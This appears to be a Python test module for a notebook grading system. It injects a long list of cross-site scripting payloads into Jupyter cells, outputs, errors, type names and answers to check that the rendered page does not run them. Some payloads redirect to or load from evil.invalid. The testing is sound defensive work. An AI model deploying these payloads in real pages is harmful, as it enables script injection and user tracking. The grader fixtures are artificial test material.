"""Running in another's browser: programs that are to survive into a page that a person opens.

Each would set `document.title` to "owned", or open a dialog, or fetch something.
"""

from __future__ import annotations

from ..ground import FULL, HONEST, Attack, markdown

OWN = "document.title='owned'"
SCRIPT = f"<script>{OWN}</script>"
IMAGE = f'<img src=x onerror="{OWN}">'

MARKUP = [
    SCRIPT,
    IMAGE,
    f"<svg onload={OWN}><a xlink:href='javascript:{OWN}'><text y=9>x</text></a></svg>",
    f"[a link](javascript:{OWN})",
    f"[a link](JaVa&#115;cript&colon;{OWN})",
    f"[a link][1]\n\n[1]: javascript:{OWN}",
    f"<a href='java\tscript:{OWN}'>a link</a>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![an image](http://evil.invalid/track.png)",
    f"`{IMAGE}` <a title='`'>{IMAGE}</a>",
    f'```"><script>{OWN}</script>\nx\n```',
    f"$${IMAGE}$$ and ${IMAGE}$ and \\begin{{x}}{IMAGE}\\end{{x}}",
    f"$\\\\href{{javascript:{OWN}}}{{x}}$ $\\href{{javascript:{OWN}}}{{x}}$",
    f"&#36;&#92;href{{javascript:{OWN}}}{{x}}&#36; &#92;(\\require{{html}}&#92;)",
    f"<iframe srcdoc='{SCRIPT}'></iframe><object data='javascript:{OWN}'></object>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'><base href=//evil.invalid>",
    "<style>@import 'http://evil.invalid/x.css'</style><link rel=stylesheet href=//evil.invalid/x>",
    f"<form action='javascript:{OWN}'><button formaction='javascript:{OWN}'>x</button></form>",
    f"<math><mtext></form><form><mglyph><style></math>{IMAGE}",
    f"<noscript><p title='</noscript>{IMAGE}'>",
    f"<!--><{IMAGE[1:]}--> <![CDATA[>{IMAGE}]]> <?x {IMAGE}?>",
    f"# heading {IMAGE}\n\n|a|\n|-|\n|{IMAGE}|\n\n* {IMAGE}\n\n> {IMAGE}",
    f"<b style=\"background:url('javascript:{OWN}')\" onmouseover={OWN}>x</b>",
    f"http://x\"onmouseover=\"{OWN} <http://x'onclick='{OWN}>",
    "<textarea></textarea><title></title><plaintext>",
    f"</div></div></body>{SCRIPT}<template shadowroot=open>{SCRIPT}</template>",
]
"""Texts that become HTML. Each is a cell of its own in `EVERY_MARKUP`."""


def add_markup(cell_type: str):
    def change(notebook: dict) -> None:
        for source in MARKUP:
            cell = markdown(source) | {"cell_type": cell_type}
            if cell_type == "raw":
                cell["metadata"] = {"raw_mimetype": "text/html", "format": "text/html"}
            notebook["cells"].append(cell)

    return change


def shown(name: str, first: str, **more) -> Attack:
    more.setdefault("answers", HONEST)
    more.setdefault(
        "points", {name: FULL[name] for name in more["answers"] | {"conv-parameter-count": ""}}
    )
    return Attack(name, "the page", first=first, **more)


DISPLAY = "from IPython.display import *\n"

ATTACKS = [
    Attack(
        "programs in text cells",
        "the page",
        HONEST,
        change=add_markup("markdown"),
        points=FULL,
        looks="why-layers: the answer stood beside the question's own cell",
    ),
    Attack(
        "programs in raw cells",
        "the page",
        HONEST,
        change=add_markup("raw"),
        points=FULL,
        looks="why-layers: the answer stood beside the question's own cell",
    ),
    Attack(
        "a program in the written answer",
        "the page",
        HONEST | {"why-layers": "\n\n".join(MARKUP[:6])},
        points=FULL,
        looks="a picture in the text is a file or an address, and is not shown",
    ),
    shown(
        "programs in outputs",
        DISPLAY + f"display(HTML({SCRIPT!r}), Javascript({OWN!r}), SVG('<svg xmlns=\"http://www.w3."
        f'org/2000/svg" onload="{OWN}"/>\'), Markdown({MARKUP[3]!r}), Latex({MARKUP[12]!r}))\n'
        f"HTML({IMAGE!r})",
    ),
    shown(
        "programs in kinds of output that are odd",
        DISPLAY + "for kind in ('text/html', 'application/javascript', 'image/svg+xml',\n"
        "    'application/vnd.jupyter.widget-view+json', 'application/vnd.bokehjs_exec.v0+json',\n"
        "    'text/markdown', 'application/pdf', 'application/vnd.plotly.v1+json', 'text/latex',\n"
        f"    '<script>x</script>/x', 'image/png\" onerror=\"{OWN}'):\n"
        f"    display({{kind: {SCRIPT!r}}}, raw=True, metadata={{kind: {{'width': '1\" onload=\"'}}}})",
    ),
    shown(
        "pictures that are none",
        DISPLAY + f"for text in ('AAAA\">{SCRIPT}'.replace(chr(39), ''), 'x\" onerror=\"x',\n"
        "        '<svg onload=alert(1)>'):\n"
        "    display({'image/png': text, 'image/jpeg': text}, raw=True,\n"
        "            metadata={'image/png': {'width': '1\" onerror=\"alert(1)', 'alt': '\"><script>'}})",
    ),
    shown(
        "programs in what is printed",
        f"import sys\nprint({SCRIPT + IMAGE!r})\nprint({SCRIPT!r}, file=sys.stderr)\n"
        "print('\\x1b[31m<b onclick=1>\\x1b[0m \\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07')\n"
        "print('\\x1b[38;2;255;255;255;1m\\x1b[\"onclick=1m')",
    ),
    shown(
        "programs in an error",
        f"class Bad(Exception): pass\nBad.__name__ = {SCRIPT!r}\nraise Bad({IMAGE!r})",
    ),
    shown(
        "a traceback of one's own",
        f"class Bad(Exception):\n    def _render_traceback_(self): return [{SCRIPT!r}, {IMAGE!r}]\n"
        "raise Bad",
    ),
    shown(
        "programs in what the judge repeats",
        "",
        answers={
            "relu": f"def relu(x):\n    print({SCRIPT!r})\n    raise ValueError({MARKUP[12] + IMAGE!r})",
            "lenet-parameter-count": f"lenet_parameter_count = {SCRIPT + MARKUP[12]!r}",
        },
        points={"conv-parameter-count": 4},
    ),
    shown(
        "programs in the name of a type",
        "",
        answers={
            "relu": f"Bad = type({IMAGE!r}, (), {{}})\ndef relu(x):\n    return Bad()",
            "lenet-parameter-count": f"lenet_parameter_count = type({SCRIPT!r}, (), {{}})()",
        },
        points={"conv-parameter-count": 4},
    ),
]
